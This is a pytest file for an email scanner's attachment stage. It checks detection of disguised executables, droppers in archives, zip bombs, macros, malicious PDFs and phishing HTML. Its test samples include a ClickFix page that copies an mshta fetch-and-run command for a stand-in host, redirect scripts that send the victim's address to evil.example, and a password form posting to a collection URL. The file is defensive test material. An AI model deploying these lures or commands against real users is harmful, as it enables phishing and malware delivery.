"""The attachment stage end to end: message in, symbols and verdict out."""

from __future__ import annotations

import base64
import gzip
import os

import pytest

from rempart.engine.context import Context
from rempart.engine.message import Message
from rempart.engine.pipeline import Pipeline
from rempart.engine.policy import DEFAULT_POLICY, Policy
from rempart.engine.stages import attachments, qr, signatures
from rempart.engine.verdict import Verdict
from tests.support import files

pipeline = Pipeline(modules=[attachments])


async def scan(raw: bytes, policy=DEFAULT_POLICY, context: Context | None = None, engine: Pipeline = pipeline):
    return await engine.scan(Message(raw), policy, context or Context())


async def scan_files(*attachments_: tuple[str, bytes], text: str = "Please find the document attached.\n", **kw):
    return await scan(files.mail(list(attachments_), text=text), **kw)


def names(result) -> set[str]:
    return {s.name for s in result.symbols}


def detail(result, name: str) -> str:
    return next(s.detail for s in result.symbols if s.name == name)


# -- names -------------------------------------------------------------------


async def test_executable_extension():
    result = await scan_files(("setup.exe", files.pe_exe()))
    assert names(result) == {"MIME_BAD_EXTENSION"}
    assert result.verdict is Verdict.SPAM


@pytest.mark.parametrize("name", ["invoice.pdf.exe", "INVOICE.PDF.SCR", "photo.jpg            .js", "report.docx.vbs"])
async def test_double_extension_is_malware(name):
    result = await scan_files((name, b"whatever"))
    assert names(result) == {"MIME_DOUBLE_BAD_EXTENSION"}  # (not MIME_BAD_EXTENSION on top)
    assert result.verdict is Verdict.MALWARE


async def test_right_to_left_override_hiding_an_executable():
    result = await scan_files(("invoice\u202efdp.exe", files.pe_exe()))
    assert {"MIME_BAD_UNICODE", "MIME_DOUBLE_BAD_EXTENSION"} <= names(result)
    assert "direction marks hide .exe" in detail(result, "MIME_DOUBLE_BAD_EXTENSION")


async def test_version_numbers_are_not_a_decoy_extension():
    result = await scan_files(("tool.2024.1.exe", files.pe_exe()))
    assert names(result) == {"MIME_BAD_EXTENSION"}


async def test_bad_names_inside_archives_recursively():
    inner = files.zip_bytes({"invoice.pdf.js": b"WScript.Echo(1)"})
    result = await scan_files(("docs.zip", files.zip_bytes({"more/inner.zip": inner})))
    assert detail(result, "MIME_DOUBLE_BAD_EXTENSION") == "docs.zip/more/inner.zip/invoice.pdf.js (.pdf.js)"


async def test_many_bad_files_score_once():
    archive = files.zip_bytes({f"tool{i}.exe": files.pe_exe() for i in range(10)})
    result = await scan_files(("tools.zip", archive))
    assert [s.name for s in result.symbols] == ["MIME_BAD_EXTENSION", "ARCHIVED_EXECUTABLE"]
    assert detail(result, "MIME_BAD_EXTENSION").endswith("(and 7 more)")
    assert detail(result, "ARCHIVED_EXECUTABLE").endswith("(and 7 more)")


# -- programs and scripts packed in archives and disc images: droppers ---------------


DROPPER = b"WScript.CreateObject('WScript.Shell').Run('calc.exe');\r\n"  # inert stand-in for a downloader


@pytest.mark.parametrize("name", ["Payment_details.js", "scan.jse", "invoice.vbs", "order.vbe", "doc.wsf", "fax.hta",
                                  "update.ps1", "run.bat", "run.cmd", "screen.scr", "setup.exe", "setup.msi",
                                  "Contrat.pdf.lnk", "tool.jar", "bob World KYC.apk"])
async def test_program_or_script_in_a_zip_is_malware(name):
    result = await scan_files(("Payment_details.zip", files.zip_bytes({name: DROPPER})))
    assert result.verdict is Verdict.MALWARE
    assert detail(result, "ARCHIVED_EXECUTABLE") == f"Payment_details.zip/{name}"


async def test_script_in_a_gzip_or_7z_or_password_protected_zip_is_malware():
    for name, archive in [("invoice.js.gz", gzip.compress(DROPPER)),
                          ("invoice.7z", files.seven_zip({"invoice.js": DROPPER})),
                          ("invoice.zip", files.aes_zip({"invoice.js": DROPPER}))]:
        result = await scan_files((name, archive))
        assert "ARCHIVED_EXECUTABLE" in names(result) and result.verdict is Verdict.MALWARE, name


async def test_a_gzip_keeps_the_name_its_header_records_and_a_program_in_it_is_malware():
    # The archive is named "Demande_de_prix.gz"; what gunzip restores is the "....pdf.exe" its header names.
    named = gzip.compress(files.pe_exe())
    header = named[:3] + bytes([named[3] | 0x08]) + named[4:10] + b"Demande_de_prix_0412.pdf.exe\x00"
    result = await scan_files(("Demande_de_prix_0412.gz", header + named[10:]))
    assert detail(result, "MIME_DOUBLE_BAD_EXTENSION") == "Demande_de_prix_0412.gz/Demande_de_prix_0412.pdf.exe (.pdf.exe)"
    assert result.verdict is Verdict.MALWARE

    # With no name recorded, the program is still a program.
    result = await scan_files(("Demande_de_prix_0412.gz", gzip.compress(files.pe_exe())))
    assert "ARCHIVED_EXECUTABLE" in names(result) and result.verdict is Verdict.MALWARE


async def test_executable_in_an_iso_is_malware():
    image = files.iso_with({"DHL_AWB_7734120985.exe": files.pe_exe()})
    result = await scan_files(("DHL_AWB_7734120985.iso", image))
    assert {"DISK_IMAGE_ATTACHMENT", "MIME_BAD_EXTENSION", "ARCHIVED_EXECUTABLE"} <= names(result)
    assert detail(result, "ARCHIVED_EXECUTABLE") == "DHL_AWB_7734120985.iso/DHL_AWB_7734120985.exe"
    assert result.verdict is Verdict.MALWARE


async def test_iso_of_documents_is_only_a_disk_image():
    image = files.iso_with({"Invoice.pdf": files.plain_pdf(), "photos/site.png": files.plain_png()})
    result = await scan_files(("documents.iso", image))
    assert names(result) == {"DISK_IMAGE_ATTACHMENT"}
    assert result.verdict is not Verdict.MALWARE


async def test_program_attached_on_its_own_is_risky_not_malware():
    result = await scan_files(("setup.exe", files.pe_exe()), ("deploy.ps1", b"Write-Host 1"))
    assert "ARCHIVED_EXECUTABLE" not in names(result) and result.verdict is Verdict.SPAM


async def test_library_in_a_software_bundle_is_not_a_dropper():
    result = await scan_files(("plugin.zip", files.zip_bytes({"plugin/helper.dll": files.pe_exe(),
                                                              "plugin/README.txt": b"Copy to the plugins folder."})))
    assert "ARCHIVED_EXECUTABLE" not in names(result) and result.verdict is not Verdict.MALWARE


async def test_everyday_attachments_are_not_droppers():
    docx = files.zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
    invite = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Review\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    export = files.zip_bytes({"export/sales.csv": b"month,total\n1,2\n", "export/notes.txt": b"minutes",
                              "export/photos/site.png": files.plain_png(),
                              "export/photos/plan.jpg": b"\xff\xd8\xff\xe0"})
    result = await scan_files(("report.pdf", files.plain_pdf()), ("letter.docx", docx), ("invite.ics", invite),
                              ("export.zip", export))
    assert result.symbols == [] and result.verdict is Verdict.CLEAN


async def test_ordinary_documents_raise_nothing():
    docx = files.zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
    result = await scan_files(("report.pdf", files.plain_pdf()), ("letter.docx", docx), ("photo.jpg", files.plain_png()),
                              ("export.xls", b"<html><table><tr><td>1</td></tr></table></html>"),
                              ("notes.zip", files.zip_bytes({"a.txt": b"minutes", "b.csv": b"1,2"})))
    assert result.symbols == [] and result.verdict is Verdict.CLEAN


# -- true types ----------------------------------------------------------------


async def test_executable_named_as_a_document():
    result = await scan_files(("invoice.pdf", files.pe_exe()))
    assert detail(result, "MIME_DISGUISED_EXECUTABLE") == "invoice.pdf is a Windows executable (PE)"


async def test_archive_or_web_page_named_as_a_pdf():
    result = await scan_files(("scan.pdf", files.zip_bytes({"a.txt": b"x"})), ("fax.pdf", b"<html><body>hi</body></html>"))
    assert detail(result, "MIME_TRUE_TYPE_MISMATCH") == "scan.pdf is a ZIP archive; fax.pdf is a HTML page"


@pytest.mark.parametrize("name", ["invoice.iso", "invoice.zip", "invoice.img"])
async def test_disk_image_whatever_its_name(name):
    result = await scan_files((name, files.iso_image()))
    assert "DISK_IMAGE_ATTACHMENT" in names(result)
    assert "MIME_BAD_EXTENSION" not in names(result)


async def test_shortcut_in_an_archive():
    result = await scan_files(("scan.zip", files.zip_bytes({"scan.pdf.lnk": files.lnk()})))
    assert "LNK_ATTACHMENT" in names(result)


# -- archives ------------------------------------------------------------------


@pytest.mark.parametrize("bomb", [
    lambda: files.ratio_bomb_zip(256),
    lambda: files.nested_zip(10),
    lambda: files.many_members_zip(10_050),
    lambda: files.overlapping_zip(100),
])
async def test_zip_bombs_are_malware_not_crashes(bomb):
    result = await scan_files(("archive.zip", bomb()))
    assert "ARCHIVE_BOMB" in names(result)
    assert result.verdict is Verdict.MALWARE
    assert "STAGE_FAILED" not in names(result)


RAR = ("docs.rar", b"Rar!\x1a\x07\x01\x00" + bytes(64))
TAG_UNSEEN = Policy(unanalysable_content="tag")


async def test_rar_is_noted_as_not_inspected():
    result = await scan_files(RAR, policy=TAG_UNSEEN)
    assert names(result) == {"ARCHIVE_UNINSPECTED"}
    assert result.verdict is Verdict.CLEAN


async def test_broken_archive_is_noted():
    data = files.zip_bytes({"a.txt": b"hello world" * 100})
    result = await scan_files(("broken.zip", data[:40] + data[-22:]), policy=TAG_UNSEEN)
    assert "ARCHIVE_MALFORMED" in names(result)


@pytest.mark.parametrize("choice", ["quarantine", "reject"])
async def test_content_nobody_could_look_into_is_refused_by_default_policy_choice(choice):
    context = Context()
    result = await scan(files.mail([RAR]), Policy(unanalysable_content=choice), context)

    assert names(result) == {"ARCHIVE_UNINSPECTED", "UNANALYSABLE_CONTENT_REFUSED"}
    assert result.verdict is Verdict.POLICY
    assert context.notes["policy_action"] == choice
    assert DEFAULT_POLICY.unanalysable_content == "quarantine"


async def test_content_nobody_could_look_into_delivered_silently_when_the_policy_says_so():
    result = await scan_files(RAR, policy=Policy(unanalysable_content="deliver"))

    assert names(result) == set()
    assert result.verdict is Verdict.CLEAN


async def test_an_archive_read_whole_is_not_unanalysable():
    result = await scan_files(("notes.zip", files.zip_bytes({"a.txt": b"hello"})))

    assert names(result) == set()


# -- encrypted content ---------------------------------------------------------


async def test_encrypted_archive_is_tagged_by_default():
    result = await scan_files(("invoice.zip", files.aes_zip({"invoice.pdf": b"%PDF-1.4"})))
    assert names(result) == {"ARCHIVE_ENCRYPTED"}
    assert result.verdict is Verdict.CLEAN


async def test_encrypted_archive_with_its_password_in_the_body():
    result = await scan_files(("invoice.zip", files.flag_encrypted_zip({"invoice.pdf": b"%PDF-1.4"})),
                              text="Your invoice is attached. Password: 4521\n")
    assert names(result) == {"ARCHIVE_ENCRYPTED", "ENCRYPTED_PASSWORD_IN_BODY"}


async def test_encrypted_document():
    result = await scan_files(("salaries.docx", files.encrypted_docx()))
    assert names(result) == {"DOCUMENT_ENCRYPTED"}


@pytest.mark.parametrize("choice", ["quarantine", "reject"])
async def test_policy_may_refuse_encrypted_content(choice):
    context = Context()
    policy = DEFAULT_POLICY.with_changes(encrypted_content=choice)
    result = await scan(files.mail([("x.zip", files.flag_encrypted_zip({"a.txt": b"secret"}))]), policy, context)
    assert "ENCRYPTED_CONTENT_REFUSED" in names(result)
    assert result.verdict is Verdict.POLICY
    assert context.notes["policy_action"] == choice


async def test_policy_may_deliver_encrypted_content_without_a_word():
    policy = DEFAULT_POLICY.with_changes(encrypted_content="deliver")
    result = await scan(files.mail([("invoice.zip", files.aes_zip({"a.pdf": b"%PDF"}))]), policy)
    assert result.symbols == []


# -- Office, PDF, HTML ---------------------------------------------------------


async def test_auto_exec_macro_is_malware():
    result = await scan_files(("invoice.docm", files.docm()))
    assert result.verdict is Verdict.MALWARE
    assert "AutoOpen" in detail(result, "OFFICE_AUTOEXEC_MACRO")


async def test_old_word_document_with_macro_inside_a_zip():
    result = await scan_files(("docs.zip", files.zip_bytes({"invoice.doc": files.macro_doc()})))
    assert detail(result, "OFFICE_AUTOEXEC_MACRO").startswith("docs.zip/invoice.doc (")


async def test_harmless_macro_is_only_noted():
    result = await scan_files(("table.docm", files.docm(files.HARMLESS_MACRO)))
    assert names(result) == {"OFFICE_MACRO"}
    assert result.verdict is Verdict.CLEAN


@pytest.mark.parametrize("pdf, symbol", [
    (files.pdf_with_javascript, "PDF_AUTO_JAVASCRIPT"),
    (files.pdf_with_hidden_javascript, "PDF_AUTO_JAVASCRIPT"),
    (files.pdf_with_launch, "PDF_LAUNCH"),
    (lambda: files.pdf_with_link(b"https://login-microsoftonline.example.net/owa"), "PDF_LOGIN_LINK"),
])
async def test_pdf_features(pdf, symbol):
    assert symbol in names(await scan_files(("statement.pdf", pdf())))


async def test_pdf_linking_to_an_ordinary_page_is_clean():
    assert (await scan_files(("brochure.pdf", files.pdf_with_link(b"https://www.example.org/products")))).symbols == []


async def test_html_attachment_with_a_password_form_is_phishing():
    result = await scan_files(("secure_message.html", files.credential_page(wrapped=True).encode()))
    assert result.verdict is Verdict.PHISHING
    assert detail(result, "HTML_CREDENTIAL_FORM").endswith("→ https://collect.example.org/owa/auth.php")


async def test_a_password_form_in_the_html_body_is_not_an_attachment_matter():
    raw = files.mail([], html=files.credential_page())
    assert (await scan(raw)).symbols == []


async def test_html_smuggling_attachment_is_malware():
    result = await scan_files(("invoice.htm", files.smuggling_page().encode()))
    assert "HTML_SMUGGLING" in names(result) and result.verdict is Verdict.MALWARE


async def test_html_attachment_that_redirects():
    page = b'<html><head><meta http-equiv="refresh" content="0;URL=https://evil.example/doc"></head></html>'
    assert detail(await scan_files(("fax.html", page)), "HTML_REDIRECT") == "fax.html → https://evil.example/doc"


async def test_html_attachment_that_redirects_to_a_decoded_address():
    target = base64.b64encode(b"https://voicemail.evil.example/vm/?id=").decode()
    page = (f'<html><body><p>Loading your voice message...</p><script>var e = "alice@example.com";'
            f'var t = atob("{target}");'
            f'setTimeout(function() {{ window.location.href = t + btoa(e); }}, 300);</script></body></html>')
    result = await scan_files(("VM_Message_0047_audio.htm", page.encode()))
    assert detail(result, "HTML_REDIRECT") == "VM_Message_0047_audio.htm → https://voicemail.evil.example/vm/?id="


async def test_svg_with_script():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/"</script></svg>'
    assert "SVG_SCRIPT" in names(await scan_files(("voice_message.svg", svg)))


# -- bad input: bounded work ------------------------------------------------------

stages = Pipeline(modules=[signatures, attachments, qr])


def _raw(headers: bytes, body: bytes) -> bytes:
    return headers + b"\r\n" + body


@pytest.mark.slow
@pytest.mark.timeout(60)
async def test_a_50_mb_message_gets_a_verdict():
    # One long base64 line: the MIME parser reads line by line, and 700,000 short lines would
    # time message.py's parser rather than these stages.
    payload = base64.b64encode(os.urandom(36 * 1024 * 1024))
    raw = _raw(b"From: a@example.net\r\nTo: b@example.com\r\nSubject: big\r\nMIME-Version: 1.0\r\n"
               b'Content-Type: multipart/mixed; boundary="b"\r\n',
               b"--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b\r\nContent-Type: application/octet-stream\r\n"
               b'Content-Disposition: attachment; filename="backup.bin"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
               + payload + b"\r\n--b--\r\n")
    assert len(raw) > 48 * 1024 * 1024
    result = await scan(raw, engine=stages)
    assert result.verdict is Verdict.CLEAN and "STAGE_FAILED" not in names(result)


@pytest.mark.timeout(60)
async def test_a_message_with_more_parts_than_inspected_gets_a_verdict():
    # 2,000 parts, twice Message.MAX_PARTS: the stages see the first 1,000. (10,000 parts work the
    # same way but spend about 15 s in the MIME parser of message.py, which is not this stage's.)
    parts = b"".join(b'--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; '
                     b'filename="f%d.exe"\r\n\r\nMZ\r\n' % i for i in range(2_000))
    raw = _raw(b'From: a@example.net\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n',
               parts + b"--b--\r\n")
    result = await scan(raw, engine=stages)
    assert "MIME_BAD_EXTENSION" in names(result) and "STAGE_FAILED" not in names(result)


@pytest.mark.timeout(60)
async def test_a_1_mb_header_gets_a_verdict():
    raw = _raw(b"From: a@example.net\r\nX-Junk: " + b"a" * (1024 * 1024) + b"\r\nSubject: hi\r\n", b"hello\r\n")
    result = await scan(raw, engine=stages)
    assert result.verdict is Verdict.CLEAN and result.symbols == []


# -- Internet shortcuts and links for the URL stage --------------------------------


async def test_internet_shortcut_to_a_web_page_is_only_a_link():
    context = Context()
    result = await scan(files.mail([("Article.url", b"[InternetShortcut]\r\nURL=https://news.example.org/a\r\n")]),
                        context=context)
    assert result.symbols == []
    assert context.notes["attachment_urls"] == ["https://news.example.org/a"]


async def test_internet_shortcut_to_a_network_share_is_dangerous():
    shortcut = b"[InternetShortcut]\r\nURL=file://\\\\198.51.100.9\\share\\invoice.exe\r\n"
    result = await scan_files(("invoice.url", shortcut))
    assert detail(result, "MIME_BAD_EXTENSION").startswith("invoice.url → file://")


async def test_links_of_pdfs_inside_archives_are_left_for_the_url_stage():
    context = Context()
    pdf = files.pdf_with_link(b"https://www.example.org/products")
    await scan(files.mail([("docs.zip", files.zip_bytes({"brochure.pdf": pdf}))]), context=context)
    assert context.notes["attachment_urls"] == ["https://www.example.org/products"]


async def test_a_fake_human_check_that_puts_a_command_on_the_clipboard_is_clickfix():
    page = (b"<html><body><p>Verify you are human.</p><ol><li>Press Windows Button + R</li><li>Press CTRL + V</li>"
            b"<li>Press Enter</li></ol><script>function v(){navigator.clipboard.writeText('mshta https://cdn-verify."
            b"example.net/captcha.hta # I am not a robot');}</script></body></html>")
    copy_button = b"<html><script>navigator.clipboard.writeText('INV-2025-0042');</script><p>Copy the reference</p></html>"
    result = await scan_files(("Claim_Docs.html", page))
    harmless = await scan_files(("reference.html", copy_button))

    assert "HTML_CLICKFIX" in names(result) and result.verdict.value == "malware"
    assert "HTML_CLICKFIX" not in names(harmless)
